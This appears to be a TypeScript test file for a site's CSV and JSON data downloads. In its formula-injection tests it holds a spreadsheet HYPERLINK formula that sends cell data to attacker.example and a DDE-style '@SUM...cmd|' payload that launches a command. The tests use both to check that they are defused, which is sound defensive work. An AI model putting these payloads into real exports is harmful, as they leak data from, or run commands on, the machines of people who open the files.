import { parse } from 'csv-parse/sync';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { BOM, defuseFormula, formatCsv } from '../../src/data/csv.ts';
import { buildDataDictionary } from '../../src/data/data-dictionary.ts';
import {
	buildStatesJson,
	citeData,
	formatSourcesCsv,
	formatStatesCsv,
	getDataAsOf,
	makeSourceUrlOf,
	SOURCE_COLUMNS,
	STATE_COLUMNS,
	type Column,
} from '../../src/data/downloads.ts';
import { describedLevels, LEVELS } from '../../src/data/levels.ts';
import { toStateRecord } from '../../src/data/state-record.ts';
import { SourceSchema } from '../../src/schemas/source.ts';
import { StateSchema } from '../../src/schemas/state.ts';
import { validateContent } from '../../src/validation/validate-content.ts';
import { useTranslations } from '../../src/i18n/index.ts';

const en = useTranslations('en');

const fixture = validateContent(fileURLToPath(new URL('../fixtures/valid/', import.meta.url)));
const states = fixture.states.map(toStateRecord);
const { sources } = fixture;

/** Parses CSV text the way a spreadsheet would, dropping the byte-order mark. */
function parseCsv(text: string): Record<string, string>[] {
	return parse(text, { bom: true, columns: true, skip_empty_lines: true });
}

describe('formatCsv', () => {
	it('starts with a UTF-8 byte-order mark and ends every row with CRLF', () => {
		const text = formatCsv([['a', 'b'], ['1', '2']]);
		expect(text.startsWith(BOM)).toBe(true);
		expect(text.slice(1)).toBe('a,b\r\n1,2\r\n');
	});

	it('quotes commas, quotes, line breaks and edge spaces so a parser gets them back exactly', () => {
		const tricky = ['plain', 'comma, inside', 'say "hi"', 'two\nlines', ' padded ', 'Nuevo México — ñ', ''];
		const text = formatCsv([tricky.map((_, i) => `c${i}`), tricky]);
		expect(text).toContain('"comma, inside"');
		expect(text).toContain('"say ""hi"""');
		const [row] = parseCsv(text);
		expect(Object.values(row ?? {})).toEqual(tricky);
	});

	it('prefixes with an apostrophe every cell a spreadsheet would run as a formula, and no other', () => {
		const formulas = ['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://x.example","y")'];
		const [row] = parseCsv(formatCsv([formulas.map((_, i) => `c${i}`), formulas]));
		expect(Object.values(row ?? {})).toEqual(formulas.map((formula) => `'${formula}`));
		for (const text of ['a=1', 'Oregon', ' -1', '', '2025-11-12', 'https://x.example/?a=1']) expect(defuseFormula(text)).toBe(text);
	});
});

describe('the downloads, with formulas in the records', () => {
	// What a hostile pull request could put in a summary or a title, where Excel or Sheets would run it.
	const FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';
	const [first, ...rest] = states;
	const [source, ...otherSources] = sources;
	if (!first || !source) throw new Error('the fixture needs a state and a source');
	const hostileStates = [{ ...first, nlets: { ...first.nlets, summary: FORMULA } }, ...rest];
	const hostileSources = [{ ...source, title: '@SUM(1+1)*cmd|" /C calc"!A0', publisher: '-2+3' }, ...otherSources];

	it('states.csv stores the summary as text, apostrophe first', () => {
		const row = parseCsv(formatStatesCsv(hostileStates, hostileSources)).find((r) => r['code'] === first.code);
		expect(row?.['nlets_summary']).toBe(`'${FORMULA}`);
	});

	it('sources.csv stores the title and publisher as text, apostrophe first', () => {
		const row = parseCsv(formatSourcesCsv(hostileSources)).find((r) => r['id'] === source.id);
		expect(row?.['title']).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
		expect(row?.['publisher']).toBe(`'-2+3`);
	});

	it('leaves no cell of either file starting with a formula character', () => {
		const cells = [...parseCsv(formatStatesCsv(hostileStates, hostileSources)), ...parseCsv(formatSourcesCsv(hostileSources))].flatMap((row) =>
			Object.values(row),
		);
		expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
	});
});

describe('the states download', () => {
	const rows = parseCsv(formatStatesCsv(states, sources));

	it('has one row per state and DC, in the column order the dictionary documents', () => {
		expect(rows).toHaveLength(51);
		expect(Object.keys(rows[0] ?? {})).toEqual(STATE_COLUMNS.map((c) => c.name));
		expect(rows.map((r) => r['code'])).toEqual(states.map((s) => s.code));
	});

	it('round-trips every status, date and summary of every record (none of the fixture’s starts like a formula)', () => {
		for (const [i, state] of states.entries()) {
			const row = rows[i];
			expect(row?.['nlets_status']).toBe(state.nlets.status);
			expect(row?.['dmv_sharing_status']).toBe(state.dmvSharing.status);
			expect(row?.['data_brokers_status']).toBe(state.dataBrokers.status);
			expect(row?.['licenses_for_all_status']).toBe(state.licensesForAll.status);
			expect(row?.['nlets_as_of']).toBe(state.nlets.asOf);
			expect(row?.['nlets_summary']).toBe(state.nlets.summary);
			expect(row?.['last_reviewed']).toBe(state.lastReviewed);
			expect(row?.['licenses_for_all_since']).toBe(state.licensesForAll.since === null ? '' : String(state.licensesForAll.since));
		}
	});

	it('gives the sources as https URLs from the bibliography, not ids', () => {
		const urlOf = makeSourceUrlOf(sources);
		const cited = states.filter((s) => s.nlets.sources.length > 0);
		expect(cited.length).toBeGreaterThan(0);
		for (const state of cited) {
			const cell = rows.find((r) => r['code'] === state.code)?.['nlets_sources'] ?? '';
			expect(cell.split(' ')).toEqual(state.nlets.sources.map(urlOf));
		}
		for (const row of rows) {
			for (const column of STATE_COLUMNS.filter((c) => c.name.endsWith('_sources'))) {
				for (const url of (row[column.name] ?? '').split(' ').filter(Boolean)) expect(url).toMatch(/^https:\/\//);
			}
		}
	});

	it('keeps FIPS codes as two-digit text', () => {
		expect(rows.find((r) => r['code'] === 'AL')?.['fips']).toBe('01');
	});

	it('fails loudly on a source id the bibliography lacks', () => {
		expect(() => makeSourceUrlOf(sources)('no-such-source')).toThrow(/no-such-source/);
	});
});

describe('the sources download', () => {
	it('has one row per source with its URL and dates', () => {
		const rows = parseCsv(formatSourcesCsv(sources));
		expect(rows).toHaveLength(sources.length);
		expect(Object.keys(rows[0] ?? {})).toEqual(SOURCE_COLUMNS.map((c) => c.name));
		expect(rows.map((r) => r['url'])).toEqual(sources.map((s) => s.url));
		expect(rows.map((r) => r['published'])).toEqual(sources.map((s) => s.published ?? ''));
	});
});

describe('the JSON download', () => {
	const json = buildStatesJson(states, sources);

	it('carries the licence, the citation and the latest review date', () => {
		expect(json.licence.name).toBe('CC BY 4.0');
		expect(json.asOf).toBe(getDataAsOf(states));
		expect(json.citation).toBe(citeData(json.asOf));
		expect(json.citation).toContain(json.asOf);
	});

	it('keeps every status and resolves every source id to its URL', () => {
		const urlOf = makeSourceUrlOf(sources);
		expect(json.states.map((s) => s.nlets.status)).toEqual(states.map((s) => s.nlets.status));
		for (const [i, state] of json.states.entries()) {
			expect(state.nlets.sources).toEqual(states[i]?.nlets.sources.map((id) => ({ id, url: urlOf(id) })));
			expect(state.timeline).toHaveLength(states[i]?.timeline.length ?? -1);
		}
	});
});

describe('getDataAsOf', () => {
	it('is the latest lastReviewed of any record', () => {
		const [first, second] = states;
		if (!first || !second) throw new Error('fixture needs two states');
		expect(getDataAsOf([{ ...first, lastReviewed: '2024-01-01' }, { ...second, lastReviewed: '2025-03-04' }])).toBe('2025-03-04');
	});

	it('refuses an empty list rather than inventing a date', () => {
		expect(() => getDataAsOf([])).toThrow();
	});
});

describe('the data dictionary', () => {
	const dictionary = buildDataDictionary(StateSchema, STATE_COLUMNS, en);

	it('documents every column with a type and a meaning', () => {
		expect(dictionary.map((e) => e.column)).toEqual(STATE_COLUMNS.map((c) => c.name));
		for (const entry of [...dictionary, ...buildDataDictionary(SourceSchema, SOURCE_COLUMNS, en)]) {
			expect(entry.type, entry.column).toBeTruthy();
			expect(entry.meaning.length, entry.column).toBeGreaterThan(10);
		}
	});

	it('takes meanings from the schemas and allowed values from the levels', () => {
		const nlets = dictionary.find((e) => e.column === 'nlets_status');
		expect(nlets?.meaning).toBe(StateSchema.shape.nlets.description);
		expect(nlets?.allowed.map((a) => a.value)).toEqual(LEVELS.nlets.map((l) => l.status));
		expect(nlets?.allowed.map((a) => a.label)).toEqual(describedLevels('nlets', en).map((l) => l.label));
		expect(dictionary.find((e) => e.column === 'nlets_as_of')).toMatchObject({
			type: 'date, YYYY-MM-DD',
			meaning: StateSchema.shape.nlets.shape.asOf.description,
		});
		expect(dictionary.find((e) => e.column === 'licenses_for_all_since')?.type).toBe('whole number, or empty');
	});

	it('refuses a column the schema does not describe', () => {
		const undocumented: Column<unknown> = { name: 'mystery', field: 'nope', value: () => '' };
		expect(() => buildDataDictionary(StateSchema, [undocumented], en)).toThrow(/mystery/);
	});
});

describe('the download columns', () => {
	/** Every field path of an object schema, descending into nested objects, optional ones too, but not into lists. */
	function fieldPaths(schema: unknown, prefix = ''): string[] {
		const def = (schema as { _zod: { def: { type: string; shape?: Record<string, unknown>; innerType?: unknown } } })._zod.def;
		if (def.type === 'optional' && def.innerType) return fieldPaths(def.innerType, prefix);
		if (def.type !== 'object' || !def.shape) return [prefix];
		return Object.entries(def.shape).flatMap(([key, child]) => fieldPaths(child, prefix ? `${prefix}.${key}` : key));
	}

	it('cover every field of a state record, so a new field cannot miss the CSV unnoticed', () => {
		const inCsv = new Set(STATE_COLUMNS.map((c) => c.field));
		// The timeline is a list of events with their own sources: it is in states.json only.
		const jsonOnly = new Set(['timeline']);
		expect(fieldPaths(StateSchema).filter((path) => !inCsv.has(path) && !jsonOnly.has(path))).toEqual([]);
	});

	it('cover every field of a source', () => {
		expect(fieldPaths(SourceSchema).sort()).toEqual(SOURCE_COLUMNS.map((c) => c.field).sort());
	});
});
